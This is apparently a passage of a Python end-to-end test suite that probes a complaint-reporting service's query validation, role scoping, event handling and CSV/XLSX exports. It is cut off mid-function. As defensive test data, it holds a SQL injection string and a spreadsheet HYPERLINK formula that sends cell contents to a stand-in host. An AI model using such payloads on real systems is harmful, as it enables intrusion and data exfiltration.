"""Outside probes of reporting (issue 11): malformed and extreme query input on every endpoint,
roles and scope, events out of order and duplicated, malformed and poisonous messages on its
queues, the service killed mid-batch, PostgreSQL cut during ingest, two replicas, the rebuild,
the exports' format and the dashboard's assets. Each test asserts the behaviour DESIGN.md and
the issue promise; those that found a defect say so in a `# Found by this probe (fixed):` comment."""
import csv
import io
import json
import os
import re
import subprocess
import sys
import time
import uuid
from datetime import datetime, timedelta, timezone
from pathlib import Path
from types import SimpleNamespace

import pytest
import requests
import sqlalchemy as sa

from shared.messaging import dead_letters
from shared.messaging.consumer import handlers_of
from shared.messaging.envelope import build_event
from shared.messaging.relay import Publisher
from shared.runtime.config import service_class
from shared.testing.fixtures import database_rows, jsonbody, wait_until
from tests.e2e.test_investigation_cases import bearer
from tests.e2e.test_reporting import chain, purge_reporting_queues

pytestmark = pytest.mark.e2e
__all__ = ["chain"]  # the fixture, shared with test_reporting

ROOT = Path(__file__).resolve().parents[2]
NOW = datetime(2026, 11, 22, 2, 0, tzinfo=timezone.utc)  # 10:00 in Shanghai
HQ = ("hq_analyst", "*")
# Retries in a fraction of a second, pauses after a temporary failure of a second at most.
FAST = {"EVENT_RETRY_DELAYS_MS": (100, 200), "EVENT_PAUSE_MAX_SECONDS": 1.0}
PHONE = re.compile(r"(?<!\d)1[3-9]\d{9}(?!\d)")


# -- events as the producers publish them -------------------------------------------------------------

def complaint(case_id=None, *, branch="SH001", region="east", received=None, category="hygiene_environment",
              kind="complaint", technician=None, reference=None, masked=None, channel="front_desk",
              priority="general", products=(), event_id=None, first_due=None) -> dict:
    case_id = case_id or str(uuid.uuid4())
    received = received or NOW - timedelta(hours=1)
    payload = {
        "complaint_id": case_id, "reference": reference or f"{branch}-20261122-{case_id[:4]}", "kind": kind,
        "channel": channel, "category": category, "category_source": "manual", "priority": priority,
        "severity_flags": [], "description": "毛巾不干净", "occurred_at": None, "received_at": received.isoformat(),
        "region": region,
        "service": {"code": "HAIR-CUT", "name": "剪发", "technician_id": technician} if technician else None,
        "products": [{"sku": "DYE-5N", "batch": b} for b in products],
        "customer_ref": f"ref-{case_id[:8]}", "customer_masked": masked or {"name": "王**", "phone": "138****6138"},
        "customer_language": "zh",
        "first_response_due": (first_due or received + timedelta(hours=24)).isoformat(),
        "resolution_due": (received + timedelta(days=7)).isoformat()}
    event_type = "complaint_registered" if kind == "complaint" else "feedback_registered"
    return dict(build_event(event_type, payload, branch_code=branch, correlation_id=case_id, occurred_at=received,
                            sequence=1, source="intake", event_id=event_id))


def case_event(event_type, case_id, sequence, at, *, branch="SH001", **extra) -> dict:
    payload = {"case_id": case_id, "complaint_id": case_id, "actor": "M-1", "actor_role": "store_manager", **extra}
    return dict(build_event(event_type, payload, branch_code=branch, correlation_id=case_id, occurred_at=at,
                            sequence=sequence, source="investigation"))


def archive_read(case_id, at, *, branch="SH001") -> dict:
    return case_event("archive_accessed", case_id, 20, at, branch=branch, purpose="顾客投诉复查",
                      accessed_at=at.isoformat(), contact_read=False, actor="AUD-1", actor_role="auditor")


def adverse_reaction(batch, at, *, branch="SH001") -> dict:
    visit_id, sale_id = str(uuid.uuid4()), str(uuid.uuid4())
    payload = {"visit_id": visit_id, "kind": "return", "case_id": None, "sale_id": sale_id, "customer_ref": "ref-a",
               "technician_id": "T-9", "product": {"sku": "DYE-5N", "batch": batch}, "description": "头皮红肿",
               "severity_flags": ["allergy"], "reported_at": at.isoformat(), "customer_masked": {"name": "李*"}}
    return dict(build_event("adverse_reaction_reported", payload, branch_code=branch, correlation_id=sale_id,
                            occurred_at=at, sequence=3, source="aftercare"))


def publish(amqp_uri, *events) -> list[str]:
    """Envelopes (dicts) or raw (exchange, routing key, body text) triples, in one confirmed batch;
    the messages' ids (an envelope's event id)."""
    messages = []
    for e in events:
        if isinstance(e, dict):
            messages.append((f"{e['source']}.events", e["type"], json.dumps(e), e["event_id"]))
        else:
            messages.append((*e, str(uuid.uuid4())))
    publisher = Publisher(amqp_uri)
    try:
        publisher.publish_batch(messages)
    finally:
        publisher.close()
    return [m[3] for m in messages]


# -- reading what reporting holds ------------------------------------------------------------------------

def logged(url, ids) -> int:
    return database_rows(url, sa.text("SELECT count(*) FROM event_log WHERE event_id::text = ANY(:ids)").bindparams(
        ids=list(ids)))[0][0]


def count(url, sql) -> int:
    return database_rows(url, sa.text(sql))[0][0]


def parked(amqp_uri) -> list:
    queues = [h.dlq_name for h in handlers_of(service_class("reporting"), (1000,))]
    return dead_letters.list_parked(amqp_uri, queues)


def get(service, path, role=HQ, token=None, **query):
    headers = bearer(token) if token else {}
    return requests.get(service.url(path), params=query, headers=headers, timeout=15)


# -- reporting alone, fed by raw publishes to the other services' exchanges ----------------------------------

def purge_what_the_probes_left(amqp_uri) -> None:
    """The other services' queues take the events published here too (nobody consumes them while
    reporting runs alone), and the probes park messages in reporting's dead-letter queues: gone,
    so that no later test meets thousands of strangers."""
    import kombu

    from shared.messaging.consumer import all_handlers
    from shared.messaging.topology import unroutable_queue_name

    with kombu.Connection(amqp_uri) as conn:
        channel = conn.channel()
        for h in all_handlers((1000,)):
            for name in (h.queue_name, h.dlq_name) if h.service == "reporting" else (h.queue_name,):
                channel.queue_purge(name)
        for source in ("intake", "investigation", "aftercare"):
            channel.queue_purge(unroutable_queue_name(source))


@pytest.fixture
def lone(token, clock, amqp_uri, start_service, start_relay, database_factory, bus_listener):
    clock.set(NOW)
    purge_reporting_queues(amqp_uri)
    alerts_bus = bus_listener("reporting.events")
    url = database_factory("reporting")
    service = start_service("reporting", clock=clock, database_url=url, **FAST)
    start_relay(url)
    lone = SimpleNamespace(token=token, clock=clock, amqp_uri=amqp_uri, url=url, reporting=service,
                           alerts_bus=alerts_bus, start_service=start_service)

    def ask(path, role=HQ, token_region=None, **query):
        scope = {"region": token_region} if token_region else {"branch": role[1]}
        return requests.get(lone.reporting.url(path), params=query, timeout=15,
                            headers=bearer(token(role[0], **scope)))

    def feed(*events, timeout=20):
        publish(amqp_uri, *events)
        ids = {e["event_id"] for e in events if isinstance(e, dict)}
        wait_until(lambda: logged(url, ids) == len(ids), f"reporting to log {len(ids)} event(s)", timeout=timeout)

    lone.ask, lone.feed = ask, feed
    yield lone
    purge_what_the_probes_left(amqp_uri)


def fields_of(response) -> set:
    return set((jsonbody(response).get("error") or {}).get("fields") or {})


# -- malformed and extreme query input -------------------------------------------------------------------

PERIOD_BAD = {  # query -> the field the 400 must name
    "from=yesterday": "from", "to=tomorrow": "to", "from=2026-13-01": "from", "to=2026-02-30": "to",
    "from=2026-11-23T10:00:00": "from", "from=2026-11-23T10:00:00%2B20:00": "from",
    "to=9999-12-31T23:59:59-14:00": "to", "from=0001-01-01T00:00:00Z": "from", "from=": "from", "to=": "to",
    "from=" + "2" * 5000: "from", "from=%00": "from", "from=2026-11-01T10:00:00%2B08:00:00.5": "from",
    "from=2026-11-23&to=2026-11-01": "to", "from=2026-11-23&to=2026-11-22T16:00:00Z": "to",
    "from=2000-01-01&to=2026-11-22": "from",  # longer than three years
    "branch=": "branch", "branch=" + "B" * 101: "branch", "region=": "region", "region=mars": "region",
    "region=" + "r" * 101: "region", "colour=red": "colour", "from=2026-11-01&from=2026-11-02": "from",
    "branch=SH001&branch=SH002": "branch",
}
KPI_BAD = {**PERIOD_BAD, "group_by=year": "group_by", "group_by=": "group_by", "group_by=BRANCH": "group_by",
           "group_by=branch&group_by=day": "group_by", "group_by=branch%00": "group_by"}
EXPORT_BAD = {**PERIOD_BAD, "kind=order": "kind", "kind=": "kind", "category=": "category",
              "category=" + "c" * 101: "category", "group_by=branch": "group_by"}
LIBRARY_BAD = {**{q: f for q, f in EXPORT_BAD.items() if not q.startswith("kind")}, "kind=complaint": "kind"}
# Dates at the ends of the calendar: refused naming the field, or answered (with nothing); never a 500.
EXTREME_DATES = {
    "to=9999-12-31": "to",  # its day ends in year 10000
    "to=0001-01-01": "to",  # the default 30 days before it are before year 1
    "from=0001-01-01&to=0001-01-02": "from",  # in Python's range, not once in UTC (year 0) on the wire
    "from=9999-12-30&to=9999-12-30": "from",
}
ALERTS_BAD = {"kind=weather": "kind", "kind=": "kind", "status=closed": "status", "status=ALL": "status",
              "limit=0": "limit", "limit=501": "limit", "limit=abc": "limit", "limit=1.5": "limit",
              "limit=-1": "limit", "limit=1&limit=2": "limit", "from=2026-11-01": "from", "branch=SH001": "branch",
              "kind=%00": "kind", "records=some": "records", "records=": "records"}
ACCESS_BAD = {**{q: f for q, f in PERIOD_BAD.items() if not q.startswith(("branch", "region"))},
              "case_id=nope": "case_id", "case_id=": "case_id", "case_id=" + "1" * 5000: "case_id",
              "limit=0": "limit", "limit=201": "limit", "limit=x": "limit", "cursor=nonsense": "cursor",
              "cursor=" + "A" * 5000: "cursor", "branch=SH001": "branch", "group_by=day": "group_by"}


def raw_get(service, path, query, role=("hq_admin", "*"), token=None):
    return requests.get(service.url(path) + "?" + query, headers=bearer(token(role[0], branch=role[1])), timeout=15)


ENDPOINTS = (("/v1/kpis", KPI_BAD), ("/v1/exports/cases.csv", EXPORT_BAD), ("/v1/exports/cases.xlsx", EXPORT_BAD),
             ("/v1/alerts", ALERTS_BAD), ("/v1/access-log", ACCESS_BAD),
             ("/v1/exports/case-library.csv", LIBRARY_BAD), ("/v1/exports/case-library.xlsx", LIBRARY_BAD),
             ("/v1/kpis/standard-answers", {**PERIOD_BAD, "group_by=branch": "group_by"}),
             ("/v1/customers/c_" + "0" * 32, {"limit=5": "limit", "from=2026-11-01": "from", "x=%00": "x"}))


def test_malformed_and_extreme_queries_are_400_naming_the_field_on_every_endpoint(lone):
    lone.feed(complaint(), archive_read(str(uuid.uuid4()), NOW - timedelta(hours=2)))
    wrong = []
    for path, bad in ENDPOINTS:
        for query, field in bad.items():
            answer = raw_get(lone.reporting, path, query, token=lone.token)
            if answer.status_code != 400 or field not in fields_of(answer):
                wrong.append((path, query[:60], answer.status_code, answer.text[:160]))
    assert wrong == [], "\n".join(map(str, wrong))
    # The queries right at the edges are answered.
    for path, query in (("/v1/kpis", "from=2023-11-23&to=2026-11-22"), ("/v1/kpis", "to=2026-11-22T02:00:00Z"),
                        ("/v1/kpis", "from=2026-11-22&to=2026-11-22&group_by=week"),
                        ("/v1/kpis", "from=0100-01-01T00:00:00Z&to=0100-01-05T00:00:00Z"),
                        ("/v1/kpis", "from=9899-12-01T00:00:00Z&to=9899-12-31T00:00:00Z&group_by=month"),
                        ("/v1/kpis", "branch=%27%20OR%201%3D1%20--"), ("/v1/kpis", "region=east&group_by=region"),
                        ("/v1/exports/cases.csv", "kind=praise&category=%E5%8D%AB%E7%94%9F"),
                        ("/v1/alerts", "status=all&limit=500&kind=safety_signal"),
                        ("/v1/access-log", "limit=200&case_id=" + str(uuid.uuid4()))):
        answer = raw_get(lone.reporting, path, query, token=lone.token)
        assert answer.status_code == 200, (path, query, answer.status_code, answer.text[:300])
    # Other methods, a trailing slash, a cursor with no instant in it: JSON answers, never a 500.
    headers = bearer(lone.token("hq_admin", branch="*"))
    for path, _ in ENDPOINTS:
        answer = requests.post(lone.reporting.url(path), json={}, headers=headers, timeout=10)
        assert answer.status_code == 405 and "GET" in answer.headers.get("Allow", ""), (path, answer.status_code)
        assert requests.get(lone.reporting.url(path + "/"), headers=headers, timeout=10).status_code == 404
    from shared.web.requests import encode_cursor

    odd = raw_get(lone.reporting, "/v1/access-log", "cursor=" + encode_cursor(None, str(uuid.uuid4())),
                  token=lone.token)
    assert odd.status_code in (200, 400), odd.text
    assert jsonbody(odd)["items"] == [] if odd.status_code == 200 else fields_of(odd) == {"cursor"}


def test_dates_at_the_ends_of_the_calendar_are_refused_or_answered_never_a_500(lone):
    wrong = []
    for path in ("/v1/kpis", "/v1/exports/cases.csv", "/v1/exports/cases.xlsx", "/v1/access-log"):
        for query, field in EXTREME_DATES.items():
            answer = raw_get(lone.reporting, path, query, token=lone.token)
            if not (answer.status_code == 200 or (answer.status_code == 400 and field in fields_of(answer))):
                wrong.append((path, query, answer.status_code, answer.text[:120]))
    # Found by this probe (fixed: services/reporting/schemas.py, which holds a date to the instants' range):
    # a date (YYYY-MM-DD) is not held to the range an instant is (schemas.period):
    # to=9999-12-31 (its day ends in year 10000) and to=0001-01-01 (the default 30 days before it)
    # raise OverflowError: 500 on /v1/kpis, both exports and /v1/access-log; from=0001-01-01&
    # to=0001-01-02 is 500 on /v1/kpis (its `from` in UTC is in year 0). Expected: 400 naming the
    # field, as for an instant out of range (or an answer with nothing in it).
    assert wrong == [], "\n".join(map(str, wrong))


# -- roles and scope ------------------------------------------------------------------------------------------

def scoped_chain(lone) -> dict:
    """Complaints at SH001, SH002 (east) and BJ001 (north), some past their first-response deadline;
    a technician working at SH001 and SH002, one at BJ001 with a colon in its id; a batch with
    adverse reactions at SH001 and BJ001; archive reads at each branch. The ids by name."""
    t = NOW - timedelta(hours=3)
    late = {"received": t, "first_due": t + timedelta(hours=1)}  # breaching now
    ids = {name: str(uuid.uuid4()) for name in ("a1", "a2", "b1", "b2", "b3", "b4", "c1", "c2", "c3")}
    events = [
        complaint(ids["a1"], category="hygiene_environment", technician="T-XB", **late),
        complaint(ids["a2"], category="booking", technician="T-XB"),
        complaint(ids["b1"], branch="SH002", category="price", technician="T-XB"),
        *[complaint(ids[n], branch="SH002", category="booking", **(late if n == "b2" else {}))
          for n in ("b2", "b3", "b4")],
        *[complaint(ids[n], branch="BJ001", region="north", category=c, technician="BJ:T017",
                    **(late if n == "c1" else {}))
          for n, c in (("c1", "booking"), ("c2", "price"), ("c3", "hygiene_environment"))],
    ]
    reactions = [adverse_reaction("B-X", NOW - timedelta(hours=2)),
                 adverse_reaction("B-X", NOW - timedelta(hours=1), branch="BJ001")]
    reads = [archive_read(ids["a1"], NOW - timedelta(hours=2)), archive_read(ids["b1"], NOW - timedelta(hours=2),
                                                                             branch="SH002"),
             archive_read(ids["c1"], NOW - timedelta(hours=2), branch="BJ001")]
    lone.feed(*events, *reactions, *reads)
    ids.update(visit_sh001=reactions[0]["payload"]["visit_id"], visit_bj001=reactions[1]["payload"]["visit_id"],
               read_a1=reads[0]["event_id"], read_b1=reads[1]["event_id"], read_c1=reads[2]["event_id"])
    return ids


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200, response.text[:300]
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def xlsx_rows(response) -> list[dict]:
    from openpyxl import load_workbook

    assert response.status_code == 200, response.text[:300]
    book = load_workbook(io.BytesIO(response.content), read_only=True)
    rows = list(book.active.iter_rows(values_only=True))
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def test_roles_that_may_not_read_are_403_and_no_token_is_401(lone):
    paths = ("/v1/kpis", "/v1/alerts", "/v1/exports/cases.csv", "/v1/exports/cases.xlsx", "/v1/access-log")
    for path in paths:
        assert requests.get(lone.reporting.url(path), timeout=10).status_code == 401, path
        for header in ("Bearer x.y.z", "Basic abc", "Bearer " + lone.token("hq_admin", branch="*") + "x"):
            answer = requests.get(lone.reporting.url(path), headers={"Authorization": header}, timeout=10)
            assert answer.status_code == 401 and "error" in jsonbody(answer), (path, header[:20], answer.text)
        expired = lone.token("hq_admin", branch="*", ttl=timedelta(seconds=-60)) if _ttl_supported() else None
        if expired:
            assert get(lone.reporting, path, token=expired).status_code == 401, path
    for role in ("front_desk", "aftercare_agent", "branch_integration", "auditor"):
        for path in paths[:4]:
            answer = lone.ask(path, role=(role, "SH001"), group_by="bogus")  # 403 before the query's 400
            assert answer.status_code == 403, (role, path, answer.status_code, answer.text[:200])
    for role, scope in (("front_desk", "SH001"), ("store_manager", "SH001"), ("investigator", "*"),
                        ("hq_analyst", "*"), ("aftercare_agent", "*"), ("branch_integration", "SH001")):
        answer = lone.ask("/v1/access-log", role=(role, scope), limit="0")
        assert answer.status_code == 403, (role, answer.status_code, answer.text[:200])
    answer = lone.ask("/v1/access-log", role=("regional_manager", None), token_region="east")
    assert answer.status_code == 403, answer.text


def _ttl_supported() -> bool:
    import inspect

    from shared.security import auth

    return "ttl" in inspect.signature(auth.issue_token).parameters


def test_a_store_manager_sees_its_branch_only_and_a_regional_manager_its_region(lone):
    ids = scoped_chain(lone)
    sh001, sh002, bj001 = {ids["a1"], ids["a2"]}, {ids[n] for n in ("b1", "b2", "b3", "b4")}, \
        {ids[n] for n in ("c1", "c2", "c3")}
    manager, region = ("store_manager", "SH001"), ("regional_manager", None)

    def kpis(role, **query):
        answer = lone.ask("/v1/kpis", role=role, token_region="east" if role is region else None, **query)
        assert answer.status_code == 200, (role, query, answer.text[:300])
        return jsonbody(answer)

    def ask(path, role, **query):
        return lone.ask(path, role=role, token_region="east" if role is region else None, **query)

    # HQ: the whole chain.
    assert kpis(HQ)["totals"]["volume"]["complaints"] == 9
    assert [g["key"] for g in kpis(HQ, group_by="branch")["groups"]] == ["BJ001", "SH001", "SH002"]
    # The store manager of SH001: its two complaints, whatever it asks for.
    figures = kpis(manager)
    assert figures["totals"]["volume"]["complaints"] == 2 and figures["branches"] == ["SH001"]
    assert [g["key"] for g in kpis(manager, group_by="branch")["groups"]] == ["SH001"]
    assert [g["key"] for g in kpis(manager, group_by="region")["groups"]] == ["east"]
    assert {g["key"] for g in kpis(manager, group_by="technician")["groups"]} == {"T-XB"}
    assert kpis(manager, group_by="technician")["groups"][0]["volume"]["complaints"] == 2
    for query in ({"branch": "SH002"}, {"branch": "BJ001"}, {"region": "north"}, {"branch": "SH002", "region": "east"},
                  {"branch": "XX999"}):
        figures = kpis(manager, group_by="branch", **query)
        assert figures["totals"]["volume"]["complaints"] == 0 and figures["groups"] == [], (query, figures)
        assert figures["totals"]["volume"]["by_category"] == {}
    assert kpis(manager, branch="SH001", region="east")["totals"]["volume"]["complaints"] == 2
    # The regional manager of east: SH001 and SH002, never BJ001.
    assert kpis(region)["totals"]["volume"]["complaints"] == 6
    assert [g["key"] for g in kpis(region, group_by="branch")["groups"]] == ["SH001", "SH002"]
    assert kpis(region, group_by="branch", branch="BJ001")["groups"] == []
    # The CSV export: the rows of the caller's scope only (the XLSX export: see its own test).
    for role, expected in ((manager, sh001), (region, sh001 | sh002), (HQ, sh001 | sh002 | bj001)):
        assert {r["case_id"] for r in csv_rows(ask("/v1/exports/cases.csv", role))} == expected, role
    assert csv_rows(ask("/v1/exports/cases.csv", manager, branch="SH002")) == []
    assert csv_rows(ask("/v1/exports/cases.csv", region, branch="BJ001")) == []
    assert csv_rows(ask("/v1/exports/cases.csv", manager, region="north")) == []
    booked = csv_rows(ask("/v1/exports/cases.csv", HQ, kind="complaint", category="booking"))
    assert {r["case_id"] for r in booked} == {ids[n] for n in ("a2", "b2", "b3", "b4", "c1")}
    booked_sh002 = csv_rows(ask("/v1/exports/cases.csv", region, category="booking", branch="SH002"))
    assert {r["branch_code"] for r in booked_sh002} == {"SH002"} and len(booked_sh002) == 3
    assert csv_rows(ask("/v1/exports/cases.csv", HQ, kind="praise")) == []
    # Breaching cases: by branch, in scope.
    for role, branches in ((manager, ["SH001"]), (region, ["SH001", "SH002"]), (HQ, ["BJ001", "SH001", "SH002"])):
        answer = ask("/v1/alerts", role)
        assert answer.status_code == 200, answer.text
        assert sorted(b["branch_code"] for b in jsonbody(answer)["breaching"]) == branches, role
    # Alerts: HQ sees each of them (what they are about: see the next test).
    assert len(jsonbody(ask("/v1/alerts", HQ))["alerts"]) == 4
    # Alerts: no branch role sees an alert about another branch, nor records outside its scope.
    outside = {manager: sh002 | bj001 | {ids["visit_bj001"]}, region: bj001 | {ids["visit_bj001"]}}
    leaks = {}
    for role, records in outside.items():
        answer = ask("/v1/alerts", role, status="all")
        assert answer.status_code == 200, answer.text
        shown = jsonbody(answer)["alerts"]
        assert all(a["about"].get("branch_code") in (None, "SH001", "SH002") for a in shown)
        assert "SH002" not in [a["about"].get("branch_code") for a in shown] or role is region
        leaks[role[0]] = sorted(i for i in records if i in answer.text)
    # Found by this probe (fixed): GET /v1/alerts filters alerts by `branches && scope` but shows each whole: the store
    # manager of SH001 gets the technician T-XB's alert with SH002's case in `records` (and in
    # `count`, with SH002 in `branches`) and the B-X safety signal with BJ001's visit; the regional
    # manager of east the safety signal with BJ001's visit. DESIGN.md: a record outside the caller's
    # scope is not shown, not counted. Expected: the records (and count) in the caller's scope only.
    assert leaks == {"store_manager": [], "regional_manager": []}, leaks


def test_an_alert_says_what_it_is_about_as_the_events_said_it(lone):
    scoped_chain(lone)
    answer = lone.ask("/v1/alerts")
    assert answer.status_code == 200, answer.text
    about = sorted(json.dumps(a["about"], sort_keys=True) for a in jsonbody(answer)["alerts"])
    # Found by this probe (fixed): handlers._alert_view splits the stored key (recurring_problem:technician:BJ:T017) on
    # every ":", so the alert about technician BJ:T017 is shown as about {"technician_id": "BJ"}
    # (a category or batch with a colon is cut the same way). Expected: the id as the events gave it.
    assert about == sorted(json.dumps(a, sort_keys=True) for a in (
        {"branch_code": "SH002", "category": "booking"}, {"technician_id": "T-XB"},
        {"technician_id": "BJ:T017"}, {"batch": "B-X"})), about
    [published] = [m["body"] for m in lone.alerts_bus.wait_for(
        lambda m: m["body"]["payload"].get("technician_id") == "BJ:T017", 15)]
    assert published["type"] == "recurring_problem_detected" and published["payload"]["by"] == "technician"


def test_the_access_log_is_the_auditor_s_in_its_scope_paged_once_each(lone):
    ids = scoped_chain(lone)
    everyone = {ids["read_a1"], ids["read_b1"], ids["read_c1"]}
    for role, scope, expected in (("hq_admin", "*", everyone), ("auditor", "*", everyone),
                                  ("auditor", "SH001", {ids["read_a1"]}), ("auditor", "BJ001", {ids["read_c1"]})):
        answer = lone.ask("/v1/access-log", role=(role, scope))
        # Found by this probe (fixed: services/reporting/queries.py, which selects the ids as text):
        # GET /v1/access-log is 500 as soon as the log holds a read: queries.access_log
        # returns the rows as psycopg2 gives them, event_id and case_id as uuid.UUID (SQLAlchemy's
        # psycopg2 dialect registers the UUID type), and the JSON response cannot serialise them
        # ("TypeError: Object of type UUID is not JSON serializable"). Expected: 200 with the reads.
        assert answer.status_code == 200, answer.text
        items = jsonbody(answer)["items"]
        assert {i["event_id"] for i in items} == expected, (role, scope)
        assert all(i["purpose"] == "顾客投诉复查" for i in items)
    region = requests.get(lone.reporting.url("/v1/access-log"), timeout=10,
                          headers=bearer(lone.token("auditor", region="north")))
    assert {i["event_id"] for i in jsonbody(region)["items"]} == {ids["read_c1"]}
    # One a page: every read once; filtered by case.
    seen, cursor = [], None
    for _ in range(5):
        answer = lone.ask("/v1/access-log", role=("auditor", "*"), limit=1, **({"cursor": cursor} if cursor else {}))
        assert answer.status_code == 200, answer.text
        seen += [i["event_id"] for i in jsonbody(answer)["items"]]
        cursor = jsonbody(answer)["next_cursor"]
        if not cursor:
            break
    assert sorted(seen) == sorted(everyone) and len(seen) == 3
    assert [i["case_id"] for i in jsonbody(lone.ask("/v1/access-log", role=("auditor", "*"),
                                                    case_id=ids["a1"].upper()))["items"]] == [ids["a1"]]
    assert jsonbody(lone.ask("/v1/access-log", role=("auditor", "SH001"), case_id=ids["b1"]))["items"] == []


# -- exports ------------------------------------------------------------------------------------------------

COLUMNS = ["case_id", "reference", "branch_code", "region", "kind", "category", "priority", "channel",
           "technician_id", "owner", "state", "received_at", "first_response_due", "first_response_at",
           "first_response_hours", "first_response_within_sla", "resolution_due", "resolved_at", "resolution_hours",
           "resolved_within_sla", "escalation_level", "reopened", "responsibility", "remedies", "remedies_cost",
           "outcome", "follow_up_score", "closed_at", "corrective_action_due", "corrective_action_done_at",
           "customer_ref", "customer_masked"]
AWKWARD = {"reference": 'SH001-"引号",逗号\n换行', "technician_id": 'T,"7"\r\n第二行',
           "category": "卫生,环境", "owner": '店长 "张", 早班\n'}


def awkward_case(lone) -> str:
    case_id = str(uuid.uuid4())
    t = NOW - timedelta(hours=5)
    lone.feed(complaint(case_id, received=t, reference=AWKWARD["reference"], technician=AWKWARD["technician_id"],
                        category=AWKWARD["category"], masked={"name": '王**,"VIP"', "phone": "138****6138"}),
              case_event("case_assigned", case_id, 2, t + timedelta(minutes=5), owner=AWKWARD["owner"]),
              case_event("case_acknowledged", case_id, 3, t + timedelta(hours=1), within_sla=True),
              complaint())
    return case_id


def test_the_csv_export_of_chinese_commas_quotes_and_newlines_is_well_formed(lone):
    case_id = awkward_case(lone)
    answer = lone.ask("/v1/exports/cases.csv")
    assert answer.status_code == 200 and answer.headers["Content-Type"].startswith("text/csv")
    assert "charset=utf-8" in answer.headers["Content-Type"].lower()
    assert re.fullmatch(r'attachment; filename="closeloop-cases-\d{8}-\d{8}\.csv"',
                        answer.headers["Content-Disposition"]), answer.headers["Content-Disposition"]
    text = answer.content.decode("utf-8")
    assert text.startswith("\ufeff") and text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert rows[0] == COLUMNS and len(rows) == 3 and all(len(r) == len(COLUMNS) for r in rows), rows
    [row] = [dict(zip(COLUMNS, r)) for r in rows[1:] if r[0] == case_id]
    for name, value in AWKWARD.items():
        assert row[name] == value, (name, row[name])
    assert row["customer_masked"] == '王**,"VIP" 138****6138' and row["first_response_hours"] == "1.00"
    assert row["first_response_within_sla"] == "True" and row["received_at"] == "2026-11-22T05:00:00+08:00"
    assert not PHONE.search(text)


def test_an_export_over_an_empty_period_is_its_header_alone(lone):
    lone.feed(complaint())
    answer = lone.ask("/v1/exports/cases.csv", **{"from": "2020-01-01", "to": "2020-01-31"})
    assert answer.status_code == 200 and answer.content.decode("utf-8") == "\ufeff" + ",".join(COLUMNS) + "\r\n"
    assert 'filename="closeloop-cases-20200101-20200201.csv"' in answer.headers["Content-Disposition"]
    store = lone.ask("/v1/exports/cases.csv", role=("store_manager", "SH002"))  # its branch has no case
    assert store.status_code == 200 and store.content.decode("utf-8").count("\r\n") == 1
    book = lone.ask("/v1/exports/cases.xlsx", **{"from": "2020-01-01", "to": "2020-01-31"})
    assert book.headers["Content-Type"].startswith("application/vnd.openxmlformats")
    assert xlsx_rows(book) == []


def test_the_xlsx_export_holds_one_row_per_case_of_the_caller_s_scope(lone):
    ids = scoped_chain(lone)
    answer = lone.ask("/v1/exports/cases.xlsx", role=("store_manager", "SH001"))
    # Found by this probe (fixed: services/reporting/exports.py, which writes a UUID as text):
    # GET /v1/exports/cases.xlsx is 500 as soon as one case is in the period: the rows
    # come from psycopg2 with case_id as uuid.UUID, and openpyxl refuses it ("ValueError: Cannot
    # convert UUID('...') to Excel"). Only an export with no row at all answers. Expected: 200 and
    # a workbook with one row per case, as the CSV export.
    assert answer.status_code == 200, answer.text[:300]
    rows = xlsx_rows(answer)
    assert {r["case_id"] for r in rows} == {ids["a1"], ids["a2"]} and {r["branch_code"] for r in rows} == {"SH001"}
    everything = xlsx_rows(lone.ask("/v1/exports/cases.xlsx", role=("regional_manager", None), token_region="east"))
    assert {r["branch_code"] for r in everything} == {"SH001", "SH002"} and len(everything) == 6


def test_exported_text_that_looks_like_a_formula_stays_text(lone):
    case_id = str(uuid.uuid4())
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"详情")'
    lone.feed(complaint(case_id, technician=formula, masked={"name": "@SUM(1+1)", "phone": "138****6138"}))
    [row] = [r for r in csv_rows(lone.ask("/v1/exports/cases.csv")) if r["case_id"] == case_id]
    assert row["technician_id"].endswith(formula[1:])
    answer = lone.ask("/v1/exports/cases.xlsx")
    assert answer.status_code == 200, answer.text[:300]
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(answer.content)).active
    header = [c.value for c in sheet[1]]
    [cells] = [r for r in sheet.iter_rows(min_row=2) if r[0].value == case_id]
    technician = cells[header.index("technician_id")]
    # Found by this probe (fixed): openpyxl makes a string that starts with "=" a formula (data_type "f"): a technician
    # id a branch system sent (intake takes it as free text) becomes a live formula, here a link
    # carrying the sheet's cells away, when HQ opens the workbook. Expected: every cell from the
    # events is text (data_type "s"), e.g. written as an explicit string cell.
    assert technician.data_type == "s" and formula[1:] in technician.value, (technician.data_type, technician.value)


def test_control_characters_in_exported_text_do_not_break_the_xlsx_export(lone):
    case_id = str(uuid.uuid4())
    lone.feed(complaint(case_id, reference="SH001-\x07\x0b-0001", technician="T-\x1b[31m"))
    [row] = [r for r in csv_rows(lone.ask("/v1/exports/cases.csv")) if r["case_id"] == case_id]
    assert row["reference"] == "SH001-\x07\x0b-0001"
    answer = lone.ask("/v1/exports/cases.xlsx")
    # Found by this probe (fixed): the event schemas refuse only NUL and lone surrogates in text, and openpyxl raises
    # IllegalCharacterError on any other control character (BEL, VT, ESC here): the XLSX export of
    # any period holding such a case is a 500 ("SH001-\x07\x0b-0001 cannot be used in
    # worksheets"), for everyone, until the case leaves the period. Expected: 200, the characters
    # dropped or replaced in the cell.
    assert answer.status_code == 200, answer.text[:300]
    [cells] = [r for r in xlsx_rows(answer) if r["case_id"] == case_id]
    assert cells["reference"].startswith("SH001-") and cells["reference"].endswith("-0001")


# -- events out of order, duplicated, malformed, poisonous --------------------------------------------------------

def worked_case(case_id, t) -> list[dict]:
    """A complaint's whole life, in the order its producers published it."""
    remedy = {"remedy_id": str(uuid.uuid4()), "type": "refund", "amount": 300.0, "currency": "CNY"}
    follow_up = {"visit_id": str(uuid.uuid4()), "kind": "follow_up", "case_id": case_id, "sale_id": None}
    return [
        complaint(case_id, received=t, category="service_quality", technician="T-5"),
        case_event("case_opened", case_id, 1, t, kind="complaint", category="service_quality"),
        case_event("case_assigned", case_id, 2, t + timedelta(minutes=5), owner="M-1"),
        case_event("case_acknowledged", case_id, 3, t + timedelta(hours=2), within_sla=True),
        case_event("case_escalated", case_id, 4, t + timedelta(hours=3), level=1, to_role="regional_manager"),
        case_event("case_assigned", case_id, 5, t + timedelta(hours=3), owner="M-2"),
